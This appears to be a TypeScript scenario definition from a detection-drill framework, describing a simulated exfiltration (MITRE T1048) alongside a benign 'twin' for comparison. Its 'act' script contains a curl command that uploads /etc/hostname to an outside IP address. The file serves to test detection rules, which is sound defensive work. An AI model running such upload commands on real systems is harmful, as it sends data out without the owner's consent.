import { pretend, type Scenario } from '../scenario.ts'

export const upload: Scenario = {
  id: 'upload',
  area: 'exfiltration',
  title: { en: 'a file sent out by curl', ko: 'curl 파일 업로드' },
  technique: 'T1048',
  rule: 'File uploaded by a tool',
  act: { script: `${pretend('curl')}; /opt/drill/curl -T /etc/hostname http://198.51.100.7/` },
  twin: { script: `${pretend('curl')}; /opt/drill/curl -o /dev/null http://198.51.100.7/` },
}
